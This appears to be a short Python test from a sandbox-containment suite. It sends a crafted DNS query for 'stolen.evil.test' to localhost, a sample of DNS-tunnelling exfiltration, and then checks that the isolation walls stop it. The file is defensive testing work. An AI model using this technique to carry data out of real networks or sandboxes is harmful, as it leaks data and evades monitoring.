"""A tool carries data out in names that it asks a name server for."""

import socket
import struct

from attacks.behind_walls import Outside


def attack(udp_port: int) -> None:
    name = b"".join(bytes([len(part)]) + part for part in (b"stolen", b"evil", b"test")) + b"\0"
    question = struct.pack("!6H", 1, 0x100, 1, 0, 0, 0) + name + struct.pack("!2H", 1, 1)
    socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_UDP).sendto(question, ("127.0.0.1", udp_port))


def test_the_walls_stop_it(outside: Outside) -> None:
    outside.shows(attack, lambda _: outside.arrived(outside.datagrams), needs=["network:tcp:example.org:443"])
